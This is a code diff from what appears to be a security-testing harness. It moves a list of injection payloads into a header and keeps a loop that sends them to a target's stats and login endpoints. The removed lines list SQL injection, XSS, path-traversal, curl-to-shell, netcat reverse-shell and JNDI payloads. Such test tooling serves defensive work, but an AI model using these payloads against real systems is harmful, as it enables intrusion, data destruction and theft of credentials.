@@ -12,6 +12,7 @@
 #include <sstream>
 #include <thread>
 
+#include "attack/injection_payloads.h"
 #include "attack/source_client.h"
 #include "core/bytes.h"
 #include "core/env.h"
@@ -485,25 +486,12 @@ Verdict AuthzProbing(const Context& c) {
 Verdict Injection(const Context& c) {
   auto client = ClientFor(c, c.target.cloudlet_url, c.source);
   if (!client) return Verdict::kMissed;
-  static constexpr std::string_view kPayloads[] = {"' OR '1'='1' --",
-                                                   "admin'--",
-                                                   "1; DROP TABLE readings; --",
-                                                   "' UNION SELECT token FROM sessions --",
-                                                   "<script>alert(document.cookie)</script>",
-                                                   "\"><img src=x onerror=alert(1)>",
-                                                   "javascript:alert(1)",
-                                                   "../../../../etc/passwd",
-                                                   "..%2f..%2f..%2fetc%2fshadow",
-                                                   "; cat /etc/passwd",
-                                                   "$(curl http://evil.example/x.sh | sh)",
-                                                   "| nc -e /bin/sh 10.0.0.1 4444",
-                                                   "${jndi:ldap://evil.example/a}",
-                                                   "{{7*7}}"};
-  c.Say("tries: " + std::to_string(std::size(kPayloads)) +
-        " SQLi/XSS/traversal/command payloads, each in a query string (GET /api/v1/stats?q=) and "
+  c.Say("tries: " + std::to_string(kInjectionPayloads.size()) +
+        " SQLi/XSS/traversal/command/template payloads, each in a query string (GET "
+        "/api/v1/stats?q=) and "
         "in a login body (POST /api/v1/session)");
   Tally tally;
-  for (std::string_view payload : kPayloads) {
+  for (std::string_view payload : kInjectionPayloads) {
     tally.Add(client->Send(
         "GET", "/api/v1/stats?q=" + UrlEncode(payload) + "&sort=" + UrlEncode(payload)));
     tally.Add(client->Send("POST", "/api/v1/session",
